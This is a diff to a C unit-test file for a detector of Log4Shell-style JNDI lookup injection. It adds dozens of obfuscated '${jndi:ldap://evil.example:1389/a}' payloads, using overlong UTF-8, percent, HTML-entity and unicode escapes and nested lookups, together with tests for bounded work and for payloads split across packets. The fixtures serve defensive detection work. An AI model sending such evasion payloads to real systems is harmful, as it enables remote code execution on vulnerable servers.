@@ -5,7 +5,7 @@
 #include <check.h>
 #include <stdio.h>
 #include <stdlib.h>
-#include "proto.h"
+#include "jndi_impl.h"
 
 #define COUNT_OF(a) (sizeof(a) / sizeof((a)[0]))
 #define HTTP_TARGET "ldap", "evil.example", 1389, "/a"
@@ -82,6 +82,9 @@ static const struct hit in_clear[] = {
 	{"${jndi:ldap://evil.example:1389/a:-fallback}", HTTP_TARGET},
 	{"${jndi:ldap://evil.example:99999/a}", "ldap", "evil.example", 0, "/a"},
 	{"$${jndi:ldap://evil.example:1389/a}", HTTP_TARGET},
+	// who logs in is no part of the host
+	{"${jndi:ldap://me:pw@evil.example:1389/a}", HTTP_TARGET},
+	{"${jndi:iiop://1.2@[2001:db8::7]:1389/a}", "iiop", "[2001:db8::7]", 1389, "/a"},
 };
 
 static const struct hit hidden[] = {
@@ -169,6 +172,29 @@ static const struct hit hidden[] = {
 	{"${${base64:am5kaTpsZGFwOi8vZXZpbC5leGFtcGxlOjEzODkvYQ==}}", HTTP_TARGET},
 	{"${${base64:am5kaQ}:ldap://evil.example:1389/a}", HTTP_TARGET},
 	{"%24%7Bbase64:JHtqbmRpOmxkYXA6Ly9ldmlsLmV4YW1wbGU6MTM4OS9hfQ%3D%3D%7D", HTTP_TARGET},
+	// UTF-8 longer than need be
+	{"%C0%A4%C1%BBjndi:ldap://evil.example:1389/a%C1%BD", HTTP_TARGET},
+	{"%e0%80%a4%f0%80%81%bbjndi%c0%baldap://evil.example:1389/a}", HTTP_TARGET},
+	{"\xc0\xa4{jndi:ldap://evil.example:1389/a}", HTTP_TARGET},
+	{"%25C0%25A4%25C1%25BBjndi:ldap://evil.example:1389/a}", HTTP_TARGET},
+	// what is the same on every Unix
+	{"${jndi${sys:path.separator}ldap:${sys:file.separator}/evil.example:1389/a}", HTTP_TARGET},
+	{"${jndi${SYS:path.separator:-x}ldap://evil.example:1389/a}", HTTP_TARGET},
+	// an empty pattern is a value, and wins over the default
+	{"${jn${date:}di:ldap://evil.example:1389/a}", HTTP_TARGET},
+	{"${jn${date::-x}di:ldap://evil.example:1389/a}", HTTP_TARGET},
+	// a ":-" that is part of the key
+	{"${${main:\\-k:-j}ndi:ldap://evil.example:1389/a}", HTTP_TARGET},
+	{"${${lower:\\-J:-x}ndi:ldap://evil.example:1389/a}", HTTP_TARGET},
+	{"${jndi:ldap://evil${lower:\\-x}.example:1389/a}", "ldap", "evil-x.example", 1389, "/a"},
+	{"${jndi:\\-ldap://evil.example:1389/a:-x}", HTTP_TARGET},
+	// log4j has no base64 look-up: it would take the default
+	{"${${base64:eHg=:-j}ndi:ldap://evil.example:1389/a}", HTTP_TARGET},
+	// first seen half decoded
+	{"${jndi:ldap://ev%69l.ex\\u0061mple:1389/a}", HTTP_TARGET},
+	{"${jndi:l\\u0064ap://evil.example:1389/a}", HTTP_TARGET},
+	{"&dollar;&lcub;jndi&colon;ldap://evil&period;example:1389/a&rcub;", HTTP_TARGET},
+	{"${jndi:ldap://&lsqb;2001:db8::7&rsqb;:1389/a}", "ldap", "[2001:db8::7]", 1389, "/a"},
 	// together
 	{"%24%7B${::-j}&#110;d${lower:\\u0049}:ldap://evil.example:1389/a}", HTTP_TARGET},
 	{"${${lower:${::-J}}${upper:${env:X:-n}}d${upper:\xc4\xb1}${date:':'}${base64:bGRhcA}://evil.example:1389/a}",
@@ -192,7 +218,8 @@ static const char *const benign[] = {
 	"{\"query\":\"query($id: ID!) { user(id: $id) { name } }\"}", "$.ajax({url:'/a'})", "`${a}:${b}`",
 	"${a:${b:${c:d}}}", "${${}}", "${${${${", "}}}}${", "%", "%2", "%u", "\\", "\\u", "&", "&#", "&#x",
 	"&#99999999999;", "${base64:}", "${base64:!!}", "${base64:SGVsbG8=}", "${date:'}", "${date:''''}",
-	"${lower:}", "${:-}", "${-:}", "${::}",
+	"${lower:}", "${:-}", "${-:}", "${::}", "%C0%A4%C1%BBuser%C1%BD", "\xc0", "\xe0\x80", "%c0%", "\xf0\x80\x80\xa4{x}",
+	"${sys:path.separator}", "${date:}", "${x:\\-}", "${jn${date:yyyy}di:ldap://x/a}",
 };
 
 START_TEST(every_way_of_writing_a_look_up_in_clear_is_found_with_its_target)
@@ -347,6 +374,86 @@ START_TEST(a_field_that_costs_too_much_to_resolve_is_reported_as_it_stands)
 }
 END_TEST
 
+static void repeat(char *out, size_t n, const char *piece)
+{
+	size_t size = strlen(piece);
+
+	for (size_t i = 0; i < n; i++)
+		out[i] = i / size * size + size > n ? '.' : piece[i % size];
+}
+
+// Counted, not timed: one budget, linear in the field, whatever is in it.
+START_TEST(work_is_bounded_and_linear_in_the_field)
+{
+	static const char *const pieces[29] = {
+	"${", "$", "}", "${}", "${:-}", "${lower:", "${lower:a}", "${:-${jndi:a}}", "%2524", "%252525", "&", "&l", "&amp;amp;",
+	"\\", "\\u005c", "\\uuuuuuuu", "&#0000000", "${jndi:ldap://", "${jndi:ldap://a}", "${a:-$}", "${base64:JHtq}",
+	"%c0%a4", "\xc0\xa4", "${upper:\xef\xac\x81}", "%24%7b\\u0024&lcub;", "${x:-$${y:-", "-", ":-", "${a:\\-b:-c}",
+	};
+	static char field[JNDI_FIELD_BYTES];
+	const char *piece = pieces[_i];
+	uint32_t given, before = 0;
+
+	for (size_t n = JNDI_FIELD_BYTES / 8; n <= JNDI_FIELD_BYTES; n *= 2) {
+		uint32_t work;
+
+		repeat(field, n, piece);
+		work = jndi_work_of(bytes_of(field, n), &given);
+		ck_assert_uint_eq(given, JNDI_WORK_FREE + JNDI_WORK_BYTE * n);
+		ck_assert_uint_le(work, given);
+		if (before)
+			ck_assert_msg(work * 10 <= before * 23, "%s: %u for %zu, %u for half of it", piece, work, n,
+				      before);
+		before = work;
+	}
+}
+END_TEST
+
+START_TEST(the_quick_look_sees_a_sign_at_any_place_in_any_length)
+{
+	static const char *const openings[] = {"${", "%24{", "\\u0024{", "&#36;{", "\xc0\xa4{", "$&lcub;"};
+	char field[200];
+
+	for (size_t i = 0; i < COUNT_OF(openings); i++)
+		for (size_t n = strlen(openings[i]); n <= 150; n++)
+			for (size_t at = 0; at + strlen(openings[i]) <= n; at++) {
+				memset(field, 'x', n);
+				memcpy(field + at, openings[i], strlen(openings[i]));
+				ck_assert_msg(jndi_may_hold(bytes_of(field, n)), "%s at %zu of %zu", openings[i], at,
+					      n);
+			}
+	for (size_t n = 0; n <= 150; n++) {
+		memset(field, 'x', n);
+		ck_assert(!jndi_may_hold(bytes_of(field, n)));
+	}
+}
+END_TEST
+
+// Whatever a body is cut into: one report, and of the whole look-up.
+START_TEST(a_look_up_that_arrives_in_pieces_is_reported_once_and_whole)
+{
+	static uint8_t at[WINDOW_BYTES];
+	static const struct proto_flow flow = {.direction = DIRECTION_IN, .transport = 6};
+	const struct proto_input in = {.from_client = true, .from_outside = true, .flow = &flow};
+	static struct counters counters;
+	const struct proto_sink sink = {.emit = catch, .counters = &counters};
+	const struct hit *h = &hidden[_i];
+	struct bytes field = bytes_of_text(h->field);
+
+	for (size_t cut = 0; cut <= field.left; cut++) {
+		struct window w = {0};
+
+		caught.count = 0;
+		window_add(&w, at, bytes_head(field, cut));
+		window_scan(&w, at, false, "body", &in, &sink, APP_HTTP);
+		window_add(&w, at, bytes_from(field, cut));
+		window_scan(&w, at, true, "body", &in, &sink, APP_HTTP);
+		ck_assert_msg(caught.count == 1, "%u reports, cut at %zu: %s", caught.count, cut, h->field);
+		expect_text(&caught.last[0], TEXT_JNDI_HOST, h->host, h->field);
+	}
+}
+END_TEST
+
 START_TEST(eight_kib_are_read_and_no_more)
 {
 	static char field[20000];
@@ -440,6 +547,9 @@ int main(void)
 	tcase_add_test(tcase, at_most_four_look_ups_of_a_field_are_reported);
 	tcase_add_test(tcase, nesting_deeper_than_the_stack_is_resolved_in_further_rounds);
 	tcase_add_test(tcase, a_field_that_costs_too_much_to_resolve_is_reported_as_it_stands);
+	tcase_add_loop_test(tcase, work_is_bounded_and_linear_in_the_field, 0, 29);
+	tcase_add_test(tcase, the_quick_look_sees_a_sign_at_any_place_in_any_length);
+	tcase_add_loop_test(tcase, a_look_up_that_arrives_in_pieces_is_reported_once_and_whole, 0, COUNT_OF(hidden));
 	tcase_add_test(tcase, eight_kib_are_read_and_no_more);
 	tcase_add_test(tcase, long_parts_are_cut_and_flagged_and_the_record_stays_valid);
 	tcase_add_test(tcase, a_look_up_cut_at_any_byte_is_no_accident);
